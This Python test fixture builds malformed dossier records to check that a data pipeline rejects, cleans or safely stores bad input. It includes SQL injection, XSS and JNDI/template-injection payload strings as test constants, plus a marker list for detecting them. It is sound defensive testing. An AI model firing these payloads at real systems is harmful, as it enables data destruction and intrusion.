"""A corpus of bad one-stop dossier records, each built from a real record of the simulator
with one thing broken, and what the pipeline must do with it (issue 9 "Bad input").

`rejected`: refused at landing (or, for a unit or procedure the landed catalogues do not
know, by the warehouse's staging), in `audit.rejects` with a reason containing the fragment,
never in the marts. `cleaned`: lands, but the rule that cleans it (free text reduced to its
length, personal data hashed or dropped, unknown personal-looking fields redacted) leaves none
of the bad text anywhere. `inert`: the value is the record's own code, kept verbatim as data
(stored as a value, never interpolated into SQL; escaped in the HTML report).

The simulator's `malformed` fault covers bad dates, unknown status ids, missing keys and wrong
types on every run of this suite; the cases below are the ones it cannot produce.
"""

from __future__ import annotations

import copy
import datetime as dt
from collections.abc import Callable
from dataclasses import dataclass

PREFIX = "BAD-"
INJECTION = "'); DROP TABLE marts.fct_dossier; --"
SCRIPT = "<script>alert('xss')</script>"
TEMPLATE_INJECTION = "{{ 7*7 }} ${jndi:ldap://198.51.100.1/a}"
HTML_CODE = '<img src=x onerror="alert(1)">'
# What the cleaned cases carry: none of it may survive landing, anywhere.
MARKERS = ("DROP TABLE", "<script>", "jndi:ldap", "OVERSIZE-FREE-TEXT", "\x1b[31m", "\u202e")


@dataclass(frozen=True)
class Case:
    name: str
    outcome: str  # rejected | cleaned | inert
    reason: str = ""  # a fragment of the reject reason
    mutate: Callable[[dict], None] = lambda record: None

    def record(self, template: dict) -> dict:
        record = copy.deepcopy(template)
        record["id"] = f"{PREFIX}{self.name}"
        record["code"] = f"{PREFIX}{self.name}-code"
        record["nationCode"] = None
        self.mutate(record)
        return record

    def source_key(self) -> str:
        return f"{PREFIX}{self.name}"[:128]


def _shift(value: str, **delta) -> str:
    return (dt.datetime.fromisoformat(value) + dt.timedelta(**delta)).isoformat()


def _finished_before_received(r: dict) -> None:
    finished = _shift(r["acceptedDate"], days=-2)
    r["completedDate"] = finished
    for step in r["history"]:
        if step["action"] in ("COMPLETE", "RESULT_TO_COUNTER", "RETURN"):
            step["at"] = finished


def _set(path: str, value) -> Callable[[dict], None]:
    def mutate(r: dict) -> None:
        *parents, last = path.split(".")
        node = r
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return mutate


def _notes(text: str) -> Callable[[dict], None]:
    def mutate(r: dict) -> None:
        for step in r["history"]:
            step["note"] = text

    return mutate


def _applicant(**values) -> Callable[[dict], None]:
    def mutate(r: dict) -> None:
        r["applicant"].update(values)

    return mutate


def _both(*mutations: Callable[[dict], None]) -> Callable[[dict], None]:
    def mutate(r: dict) -> None:
        for m in mutations:
            m(r)

    return mutate


CASES = [
    # wrong types
    Case("status-as-text", "rejected", "dossierStatus.id", _set("dossierStatus.id", "đang xử lý")),
    Case("flag-as-text", "rejected", "vneidAuthenticated", _set("vneidAuthenticated", "yes")),
    Case("code-as-number", "rejected", "code", _set("code", 12345)),
    Case("history-as-object", "rejected", "history", _set("history", {"0": "RECEIVE"})),
    # impossible dates
    Case("finished-before-received", "rejected", "impossible dates", _finished_before_received),
    Case(
        "accepted-before-submitted",
        "rejected",
        "impossible dates",
        lambda r: r.update(acceptedDate=_shift(r["submittedDate"], days=-3)),
    ),
    Case(
        "step-before-submission",
        "rejected",
        "impossible dates",
        lambda r: r["history"][0].update(at=_shift(r["submittedDate"], days=-400)),
    ),
    Case(
        "february-30", "rejected", "acceptedDate", _set("acceptedDate", "2025-02-30T08:00:00+07:00")
    ),
    Case(
        "date-without-offset", "rejected", "updatedDate", _set("updatedDate", "2025-03-03T08:00:00")
    ),
    # unknown codes
    Case("unknown-status", "rejected", "unknown dossierStatus.id", _set("dossierStatus.id", 4242)),
    Case("unknown-apply-method", "rejected", "applyMethod", _set("applyMethod.id", "online")),
    Case("unknown-delivery", "rejected", "resultDelivery", _set("resultDelivery", "DRONE")),
    # oversize strings in keys
    Case("oversize-id", "rejected", "id", lambda r: r.update(id=r["id"] + "X" * 10_000)),
    Case("oversize-code", "rejected", "code", lambda r: r.update(code="C" * 100_000)),
    # invalid UTF-8 (a lone surrogate: what a `\udcff` escape in the JSON decodes to)
    Case("surrogate-in-code", "rejected", "invalid UTF-8", lambda r: r.update(code="BAD-\udcff")),
    Case("surrogate-in-name", "rejected", "invalid UTF-8", _applicant(fullname="Nguy\ud800n")),
    # cleaned by rule: free text and personal data never land in clear
    Case("injection-in-notes", "cleaned", mutate=_notes(INJECTION)),
    Case(
        "script-in-applicant",
        "cleaned",
        mutate=_applicant(fullname=SCRIPT, address=INJECTION, email=TEMPLATE_INJECTION),
    ),
    Case(
        "oversize-free-text",
        "cleaned",
        mutate=_both(
            _notes("OVERSIZE-FREE-TEXT " * 20_000),
            _applicant(address="OVERSIZE-FREE-TEXT " * 50_000),
        ),
    ),
    Case("control-characters-in-notes", "cleaned", mutate=_notes("\x00\x1b[31m\r\n\t\u202e")),
    Case(
        "injection-in-unknown-fields",
        "cleaned",
        mutate=lambda r: r.update(ghiChuCanBo=TEMPLATE_INJECTION, noiDungXuLy=SCRIPT),
    ),
    # units and procedures the catalogues do not know
    Case(
        "unknown-agency",
        "rejected",
        "unknown agency.code",
        mutate=lambda r: r["agency"].update(id="0" * 24, code="000.99.99.H99", name="?"),
    ),
    Case(
        "unknown-procedure",
        "rejected",
        "unknown procedure.code",
        mutate=lambda r: r["procedure"].update(id="0" * 24, code="9.999999", name="?"),
    ),
    # the record's own code, kept verbatim as data
    Case("html-in-code", "inert", mutate=lambda r: r.update(code=f"{PREFIX}{HTML_CODE}")),
]


def corpus(template: dict) -> list[dict]:
    return [case.record(template) for case in CASES]


def pick_template(pages) -> dict:
    """A complete record: applicant with an id number, a history with a finishing step and a
    note, submitted and accepted."""
    for page in pages:
        for record in page:
            applicant = record.get("applicant") or {}
            actions = {step.get("action") for step in record.get("history") or []}
            if (
                applicant.get("identityNumber")
                and record.get("submittedDate")
                and record.get("acceptedDate")
                and {"COMPLETE", "RETURN"} <= actions
                and any(step.get("note") for step in record["history"])
                and record.get("dossierStatus", {}).get("id") == 8
            ):
                return record
    raise AssertionError("no complete dossier to build the corpus from")
